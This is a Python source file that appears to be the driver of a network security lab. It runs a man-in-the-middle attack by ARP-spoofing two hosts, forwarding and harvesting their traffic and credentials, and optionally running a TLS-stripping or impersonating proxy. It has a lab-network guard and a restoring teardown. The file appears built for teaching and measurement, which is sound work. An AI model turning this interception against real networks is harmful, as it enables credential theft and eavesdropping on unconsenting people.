"""The man in the middle, whole: ARP spoofing + forwarding + harvesting (+ a transparent proxy).

What `weblab attack mitm --from HOST --between A,B` runs inside HOST:
    python -m experiments.attacks.mitm --iface server2-eth0 --lab-net 10.0.1.0/24 \
        --victim lb1=10.0.1.10 --victim server1=10.0.1.11 --duration 30 [--grep password] \
        [--proxy rewrite|strip|impersonate] [--log events.jsonl]

It prints what crosses it, live (HTTP messages, TLS records, credentials), and stops at
--duration or on SIGTERM/SIGINT, undoing everything in reverse: proxy and nftables table, the
poisoning (the victims get their true bindings back), the forwarding sysctls. The event log is
the raw data of the claims C22-C24.
"""
from __future__ import annotations

import argparse
import sys
import tempfile
from pathlib import Path
from typing import Callable

try:
    from experiments.attacks import arpspoof, harvest, proxy
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
except ImportError:  # run by file path
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from experiments.attacks import arpspoof, harvest, proxy
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError


def main(argv: list[str] | None = None) -> int:
    """Set up in order, hold for --duration, tear down in reverse, always."""
    ap = argparse.ArgumentParser(prog="python -m experiments.attacks.mitm", description=__doc__.splitlines()[0])
    arpspoof.add_common_args(ap)
    ap.add_argument("--proxy", choices=proxy.MODES, help="also run the transparent proxy in this mode")
    ap.add_argument("--marker", default=proxy.MARKER, help="what the rewrite proxy puts into pages")
    ap.add_argument("--grep", help="also report this text wherever it crosses")
    ap.add_argument("--quiet", action="store_true", help="no live lines (the event log only)")
    a = ap.parse_args(argv)
    stream = open(a.log, "a", encoding="utf-8") if a.log else None
    log = EventLog(stream, None if a.quiet else sys.stdout)
    stop = stop_on_signals()
    undo: list[tuple[str, Callable[[], object]]] = []  # what to take back, in reverse order
    try:
        arpspoof.check_duration(a.duration)
        guard = AddressGuard(a.lab_net)
        setup = arpspoof.prepare(a.iface, guard, a.victim, log)
        spoofer = arpspoof.Spoofer(a.iface, setup.a, setup.b, setup.my_mac, a.rate, log)
    except GuardError as err:
        log("refused", reason=str(err))
        if stream:
            stream.close()
        return fail(str(err))
    certdir = tempfile.TemporaryDirectory(prefix="weblab-attack-")
    status = 0
    try:
        harvester = harvest.Harvester(a.grep, harvest.reporter(log))
        if not a.no_forward:
            sysctls = arpspoof.Sysctls(a.iface)
            log("sysctl_set", before=sysctls.apply(), now=sysctls.read())
            undo.append(("sysctls", lambda: log("sysctl_restored", now=sysctls.restore())))
        watch = harvest.WireWatch(a.iface, setup.my_mac, setup.my_ip, harvester, log,
                                  only={setup.a.ip, setup.b.ip}).start()
        undo.append(("watch", watch.stop))
        if a.proxy:
            px = proxy.Proxy(a.proxy, setup.my_ip, 0, guard, log, harvester, a.marker, Path(certdir.name))
            redirect = proxy.Redirect(a.iface, [setup.a.ip, setup.b.ip], px.intercept_port, px.port)
            redirect.apply()
            undo.append(("redirect", lambda: log("redirect_removed", table=redirect.table,
                                                 gone=redirect.remove())))
            px.start()
            undo.append(("proxy", px.stop))
        spoofer.start()
        undo.append(("spoofer", spoofer.stop))
        log("attack_started", duration=a.duration, rate=a.rate, proxy=a.proxy)
        log.say(f"man in the middle of {setup.a.name} ({setup.a.ip}) and {setup.b.name} ({setup.b.ip}) "
                f"from {setup.my_ip} for {a.duration:g} s{f', proxy {a.proxy}' if a.proxy else ''}; "
                "Ctrl-C stops and restores")
        stop.wait(a.duration)
    except GuardError as err:
        log("failed", reason=str(err))
        status = fail(str(err))
    finally:
        for name, take_back in reversed(undo):
            try:
                take_back()
            except Exception as err:  # undo the rest whatever one step did
                log("undo_failed", step=name, error=f"{type(err).__name__}: {err}")
                status = 1
        certdir.cleanup()
        log("stopped", status=status)
        log.say("stopped: caches restored, forwarding and redirects as before")
        if stream:
            stream.close()
    return status


if __name__ == "__main__":
    sys.exit(main())
